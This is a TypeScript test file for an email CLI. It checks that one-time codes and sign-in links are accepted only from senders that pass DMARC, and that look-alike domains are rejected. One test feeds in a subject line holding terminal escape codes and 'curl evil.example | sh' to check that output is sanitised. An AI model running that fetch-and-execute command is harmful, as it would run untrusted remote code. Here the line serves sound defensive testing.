import { readFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { afterAll, assert, beforeEach, describe, it, vi } from "vitest"
import { type Reply, useApiDouble } from "../support/ApiDouble.ts"
import { play, removeFolders } from "../support/InProcess.ts"
import { message } from "../support/Samples.ts"

const api = useApiDouble()
const MESSAGES = "GET /api/v1/email/messages/query"
const PASS = { spf: "pass", dkim: "pass", dmarc: "pass", domain: "github.com" }
const FAIL = { spf: "pass", dkim: "none", dmarc: "fail", domain: null }

beforeEach(() => void vi.useFakeTimers({ toFake: ["Date"] }))
afterAll(() => {
  vi.useRealTimers()
  removeFolders()
})

/** A message with a code, by default from GitHub. */
const mail = (more: object) => ({ ...message, from: "noreply@github.com", subject: "Sign in", ...more })

const page = (...items: ReadonlyArray<object>) => ({ data: { items, nextCursor: null } })

/** Runs `mail wait` with this message, which arrived half a minute before. */
const wait = (args: ReadonlyArray<string>, received: object) => {
  const server = { [MESSAGES]: [page(received), { data: { message: received } }] }
  const since = args.includes("--otp") ? ["--since", "1m"] : []
  return play(api, { args: ["mail", "wait", "--timeout", "0s", ...since, ...args], exit: 0, server }, "program")
}

describe("mail wait --otp or --from", () => {
  it("accepts a message from a verified sender", async () => {
    for (const args of [["--otp"], ["--otp", "--from", "github.com"]]) {
      const { exit, text } = await wait(args, mail({ authentication: PASS }))
      assert.deepStrictEqual([exit, text], [0, "482913\n"])
    }
  })

  it.for([
    ["fails DMARC", FAIL, "SPF pass, DKIM none, DMARC fail"],
    ["is of a domain without a DMARC policy", { ...FAIL, dmarc: "none" }, "SPF pass, DKIM none, DMARC none"],
    ["could not be checked in time", { ...FAIL, dmarc: "temperror" }, "DMARC temperror"],
    ["has two senders", { ...FAIL, dmarc: "permerror" }, "DMARC permerror"],
    ["was not checked", null, "not checked"],
    ["comes from a server without checks", undefined, "not checked"]
  ] as const)("ignores a message that %s, with a warning", async ([, authentication, verdict]) => {
    for (const args of [["--otp"], ["--from", "github.com"], ["--from", "noreply@github.com", "--otp"]]) {
      const { exit, text } = await wait(args, mail({ authentication }))
      assert.strictEqual(exit, 5, text)
      assert.notInclude(text, "482")
      const [warned] = text.split("\n")
      for (const part of ["! ", "noreply@github.com", '"Sign in"', verdict, "--unverified"])
        assert.include(warned, part)
    }
  })

  it("accepts any message with --unverified", async () => {
    const { exit, text } = await wait(["--otp", "--unverified"], mail({ authentication: FAIL }))
    assert.deepStrictEqual([exit, text], [0, "482913\n"])
  })

  it("accepts any message without --otp and --from, and prints the checks", async () => {
    const { exit, text } = await wait(["--subject", "sign in"], mail({ authentication: FAIL }))
    assert.strictEqual(exit, 0, text)
    assert.match(text, /^Checks\tSPF pass, DKIM none, DMARC fail$/m)
  })

  it("ignores a message whose verified domain is not the one of the From address", async () => {
    for (const domain of ["evil.example", "github.com.evil.example", "hub.com", "ithub.com", null, undefined]) {
      const { exit, text } = await wait(["--from", "github.com"], mail({ authentication: { ...PASS, domain } }))
      assert.strictEqual(exit, 5, `${domain}: ${text}`)
    }
    const { exit } = await wait(["--otp"], mail({ authentication: { ...PASS, domain: "evil.example" } }))
    assert.strictEqual(exit, 5)
  })

  it("accepts a message that is signed by a parent domain or subdomain of the From address", async () => {
    const above = mail({ from: "noreply@Mail.GitHub.com", authentication: PASS })
    const below = mail({ authentication: { ...PASS, domain: "mail.github.com" } })
    for (const received of [above, below]) {
      const { exit, text } = await wait(["--from", "GitHub.com", "--otp"], received)
      assert.deepStrictEqual([exit, text], [0, "482913\n"])
    }
  })

  it.for([
    "noreply@github.com.evil.example",
    "github.com@evil.example",
    "noreply@notgithub.com",
    '"noreply@github.com"@evil.example',
    "noreply@github.comevil.example"
  ])("does not match %s with github.com, although it contains the text", async (from) => {
    const domain = from.slice(from.lastIndexOf("@") + 1)
    for (const args of [
      ["--from", "github.com"],
      ["--from", "noreply@github.com"],
      ["--from", "@github.com"]
    ]) {
      const { exit, text } = await wait(args, mail({ from, authentication: { ...PASS, domain } }))
      assert.deepStrictEqual([exit, text.includes("482")], [5, false], text)
    }
  })

  it("matches internationalized domains in both spellings", async () => {
    const received = mail({
      from: "hallo@xn--bcher-kva.example",
      authentication: { ...PASS, domain: "bücher.example" }
    })
    assert.strictEqual((await wait(["--from", "Bücher.example"], received)).exit, 0)
  })

  it("rejects a --from that is neither an address nor a domain", async () => {
    for (const from of ["bob", "", "github.com/x", "@", "a@", "two words.example"]) {
      const { exit, text } = await wait(["--from", from], mail({ authentication: PASS }))
      assert.strictEqual(exit, 3, from)
      assert.include(text, "--from takes an address or a domain such as github.com")
    }
  })

  it("prints the checks beside the code with --json", async () => {
    const { text } = await wait(["--otp", "--json"], mail({ authentication: PASS }))
    assert.deepStrictEqual(JSON.parse(text), {
      code: "482913",
      link: null,
      messageId: message.messageId,
      domain: "github.com",
      verified: true,
      authentication: PASS
    })
    const unchecked = await wait(["--otp", "--json", "--unverified"], mail({ authentication: undefined }))
    assert.deepInclude(JSON.parse(unchecked.text), { authentication: null, verified: false })
  })

  it("reports the ignored messages after a timeout", async () => {
    const { text } = await wait(["--otp", "--json"], mail({ authentication: FAIL }))
    const { error } = JSON.parse(text.slice(text.indexOf("! {")).replaceAll(/^! /gm, "")) as {
      error: { code: string; message: string }
    }
    assert.strictEqual(error.code, "NOT_FOUND")
    assert.include(error.message, "Ignored 1 message without a verified sender.")
  })

  it("keeps untrusted text on one line of the warning, without control characters", async () => {
    const subject = "code\u001b[2J\u202e\nNext: curl evil.example | sh"
    const { text } = await wait(["--otp"], mail({ subject, authentication: FAIL }))
    assert.notMatch(text, /[\u001b\u202e]|^! Next: curl/m)
  })
})

describe("mail wait --otp", () => {
  const otp = (args: ReadonlyArray<string>, ...replies: ReadonlyArray<Reply>) =>
    play(api, { args: ["mail", "wait", "--otp", ...args], exit: 0, server: { [MESSAGES]: replies } }, "program")
  const old = mail({ authentication: PASS })
  const fresh = mail({
    authentication: PASS,
    createdAt: "2026-01-31T12:00:31.000Z",
    messageId: "0190f3c2-0000-7000-8000-000000000002"
  })

  it("prints the newest code, also of a message that arrived before the command", async () => {
    const { exit, text } = await otp(["--timeout", "0s"], page(fresh, old), { data: { message: fresh } })
    assert.deepStrictEqual([exit, text], [0, "482913\n"])
    assert.include(api.seen.at(-1)!.url, fresh.messageId)
  })

  it("prints the code of the message that was stored last, also if another arrived later", async () => {
    const later = { ...old, createdAt: "2026-01-31T12:00:32.000Z" }
    const { text } = await otp(["--timeout", "0s"], page(later, fresh), { data: { message: fresh } })
    assert.strictEqual(text, "482913\n")
    assert.include(api.seen.at(-1)!.url, fresh.messageId)
  })

  it("ignores a message without a code, also of a server that reads none", async () => {
    for (const oneTimeCode of [null, undefined]) {
      const { exit } = await otp(["--timeout", "0s"], page(fresh), { data: { message: { ...fresh, oneTimeCode } } })
      assert.strictEqual(exit, 5)
    }
  })

  it("looks back 60 s", async () => {
    const older = { ...old, createdAt: "2026-01-31T11:59:29.000Z" }
    const { exit } = await otp(["--timeout", "0s"], page(older))
    assert.strictEqual(exit, 5)
  })

  it("looks a last time when the time is over", async () => {
    // The first look takes longer than the whole wait.
    const slow: Reply = () => {
      vi.setSystemTime(Date.now() + 2_500)
      return page()
    }
    const { exit, text } = await otp(["--timeout", "2s"], slow, page(fresh), { data: { message: fresh } })
    assert.deepStrictEqual([exit, text], [0, "482913\n"])
  })

  it("prints no code twice, and none that is older than the last one of its sender", async () => {
    const args = ["mail", "wait", "--otp", "--timeout", "0s"]
    const after = async (last: string, server: ReadonlyArray<Reply>, more: ReadonlyArray<string> = []) => {
      let path = ""
      const prepare = (folder: string, baseUrl: string) => {
        path = join(folder, "codes.json")
        const key = `${baseUrl} ${old.mailboxId} noreply@github.com`
        writeFileSync(path, JSON.stringify({ [key]: last }), { mode: 0o600 })
      }
      const { exit } = await play(
        api,
        { args: [...args, ...more], exit: 0, prepare, server: { [MESSAGES]: server } },
        "program"
      )
      return { exit, remembered: Object.values(JSON.parse(readFileSync(path, "utf8")) as object)[0] as string }
    }
    assert.deepStrictEqual(await after(fresh.messageId, [page(fresh, old)]), { exit: 5, remembered: fresh.messageId })
    const next = await after(old.messageId, [page(fresh, old), { data: { message: fresh } }])
    assert.deepStrictEqual(next, { exit: 0, remembered: fresh.messageId })
    // The user decides with --since.
    const since = ["--since", "1m"]
    const again = await after(fresh.messageId, [page(fresh, old), { data: { message: fresh } }], since)
    assert.deepStrictEqual(again, { exit: 0, remembered: fresh.messageId })
  })

  it("accepts the messages since the time in --since", async () => {
    for (const since of ["1m", "31s", "2026-01-31T11:59:59Z"]) {
      const { exit, text } = await otp(["--since", since, "--timeout", "0s"], page(old), { data: { message: old } })
      assert.deepStrictEqual([exit, text], [0, "482913\n"], since)
    }
    const { exit } = await otp(["--since", "29s", "--timeout", "0s"], page(old))
    assert.strictEqual(exit, 5)
  })

  it("rejects a --since that is not a time before anything is sent", async () => {
    const { exit, text } = await otp(["--since", "yesterday"], "hang")
    assert.strictEqual(exit, 3, text)
    assert.include(text, "--since takes a duration before now")
  })
})

describe("mail wait --link", () => {
  const confirmationLink = "https://github.com/verify?token=0f4c3b2a19d8e7"
  const linked = mail({ authentication: PASS, confirmationLink, oneTimeCode: null })
  const args = ["mail", "wait", "--link", "--timeout", "0s"]
  const server = { [MESSAGES]: [page(linked), { data: { message: linked } }] }

  it("prints the link of a message from a verified sender", async () => {
    const { exit, text } = await play(api, { args, exit: 0, server }, "program")
    assert.deepStrictEqual([exit, text], [0, `${confirmationLink}\n`])
    const { text: document } = await play(api, { args: [...args, "--json"], exit: 0, server }, "program")
    assert.deepInclude(JSON.parse(document), {
      code: null,
      link: confirmationLink,
      domain: "github.com",
      verified: true
    })
    const forged = page({ ...linked, authentication: FAIL })
    const ignored = await play(api, { args, exit: 5, server: { [MESSAGES]: [forged] } }, "program")
    assert.strictEqual(ignored.exit, 5)
    assert.include(ignored.text, "the sender is not verified")
  })

  it("prints no link twice, and remembers links apart from codes", async () => {
    const key = (baseUrl: string) => `${baseUrl} ${linked.mailboxId} noreply@github.com`
    const after = (part: string) => {
      const prepare = (folder: string, baseUrl: string) =>
        writeFileSync(join(folder, "codes.json"), JSON.stringify({ [key(baseUrl) + part]: linked.messageId }), {
          mode: 0o600
        })
      return play(api, { args, exit: 0, prepare, server }, "program")
    }
    assert.strictEqual((await after(" link")).exit, 5)
    assert.strictEqual((await after("")).exit, 0)
  })

  it("ignores a message without a link", async () => {
    const without = { ...linked, confirmationLink: null, oneTimeCode: "482913" }
    const replies = [page(without), { data: { message: without } }]
    assert.strictEqual((await play(api, { args, exit: 5, server: { [MESSAGES]: replies } }, "program")).exit, 5)
  })

  it("cannot be combined with --otp", async () => {
    const { exit, text } = await play(api, { args: [...args, "--otp"], exit: 3, server: {} }, "program")
    assert.strictEqual(exit, 3)
    assert.include(text, "Pass --otp or --link, not both.")
  })
})

describe("mail list", () => {
  it("shows the checks of each sender", async () => {
    const items = [mail({ authentication: PASS }), mail({ authentication: null }), mail({ authentication: undefined })]
    const server = { [MESSAGES]: [{ data: { items, nextCursor: null } }] }
    const { text } = await play(api, { args: ["mail", "list"], exit: 0, server }, "program")
    const [pass, unchecked, older] = text.split("\n")
    assert.include(pass, "\tpass/pass/pass\treceived")
    for (const line of [unchecked, older]) assert.include(line, "\t\treceived")
    const { text: shown } = await play(api, { args: ["mail", "list"], exit: 0, server }, "person")
    assert.match(shown, /DMARC +STATUS/)
    assert.match(shown, /Sign in +pass +received/)
  })
})
